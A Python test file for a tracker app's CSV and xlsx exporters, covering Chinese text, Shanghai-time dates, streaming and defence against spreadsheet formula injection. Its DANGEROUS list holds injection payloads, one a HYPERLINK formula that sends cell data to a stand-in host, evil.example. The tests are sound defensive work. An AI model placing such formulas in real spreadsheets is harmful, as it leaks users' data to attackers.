"""CSV and xlsx writing: Chinese text, dates, many rows."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from flask import Flask
from openpyxl import load_workbook

from tracker.services.insight.exports import csv_lines, xlsx_bytes


def test_csv_has_a_bom_for_excel_and_round_trips_chinese():
    text = "".join(csv_lines(["中心", "数量"], [["维修服务中心", 3], ["宿舍", 0.5]]))
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [["中心", "数量"], ["维修服务中心", "3"], ["宿舍", "0.5"]]


def test_xlsx_writes_local_wall_time_and_sheet_titles_excel_accepts():
    app = Flask(__name__)
    app.config["TRACKER_TIMEZONE"] = "Asia/Shanghai"
    with app.app_context():
        data = xlsx_bytes([("Week 10/2026: [all]", ["when", "day"],
                            [[datetime(2026, 3, 2, 1, 0, tzinfo=UTC), date(2026, 3, 2)]])])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.title == "Week 10_2026_ _all_"
    assert sheet["A2"].value == datetime(2026, 3, 2, 9, 0)  # 09:00 in Shanghai


def test_many_rows_stream_without_building_the_table():
    rows = ([n, n * 2] for n in range(100_000))
    lines = csv_lines(["n", "double"], rows)
    assert next(lines).strip() == "\ufeffn,double"
    assert sum(1 for _ in lines) == 100_000


# ---------------------------------------------------------------- formula injection (OWASP "CSV Injection")

DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1",
             "\uff0d1+1", "\uff20SUM(1,1)", '=HYPERLINK("http://evil.example/?x="&A2,"Click")']


def _xlsx(headers, rows):
    app = Flask(__name__)
    app.config["TRACKER_TIMEZONE"] = "Asia/Shanghai"
    with app.app_context():
        data = xlsx_bytes([("Sheet", headers, rows)])
    return load_workbook(io.BytesIO(data)).worksheets[0]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_csv(text):
    written = "".join(csv_lines([text], [[text, "plain"]]))
    assert list(csv.reader(io.StringIO(written[1:]))) == [["'" + text], ["'" + text, "plain"]]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_is_a_quoted_string_in_xlsx(text):
    sheet = _xlsx([text], [[text]])
    for cell in (sheet["A1"], sheet["A2"]):
        # XML reads a carriage return back as a line feed.
        assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))


@pytest.mark.parametrize("text", ["", "'=1+1", "Tap = leaking", "维修 -1", "—", "#REF", "1+1", " =1+1"])
def test_harmless_text_is_written_as_typed(text):
    written = "".join(csv_lines(["h"], [[text]]))
    assert list(csv.reader(io.StringIO(written[1:])))[1] == [text]
    if text:  # openpyxl writes no cell for an empty string
        assert (_xlsx(["h"], [[text]])["A2"].value) == text


def test_numbers_stay_numbers_even_negative():
    written = "".join(csv_lines(["n", "x"], [[-3, -2.5]]))
    assert written.splitlines()[1] == "-3,-2.5"
    sheet = _xlsx(["n", "x"], [[-3, -2.5]])
    assert [(c.data_type, c.value) for c in sheet[2]] == [("n", -3), ("n", -2.5)]


def test_xlsx_keeps_error_like_text_as_text_and_drops_forbidden_control_characters():
    sheet = _xlsx(["h"], [["#N/A"], ["bell\x07 in a title"], ["\x00=1+1"]])
    assert [(c.data_type, c.value) for c in sheet["A"][1:]] == [
        ("s", "#N/A"), ("s", "bell in a title"), ("s", "'=1+1")]


def test_the_streamed_xlsx_is_the_same_file():
    from tracker.services.insight.exports import xlsx_chunks

    app = Flask(__name__)
    app.config["TRACKER_TIMEZONE"] = "Asia/Shanghai"
    with app.app_context():
        data = b"".join(xlsx_chunks([("Sheet", ["=h"], [["=1+1", 2]])]))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [(c.data_type, c.value) for c in (sheet["A1"], sheet["A2"], sheet["B2"])] == [
        ("s", "'=h"), ("s", "'=1+1"), ("n", 2)]
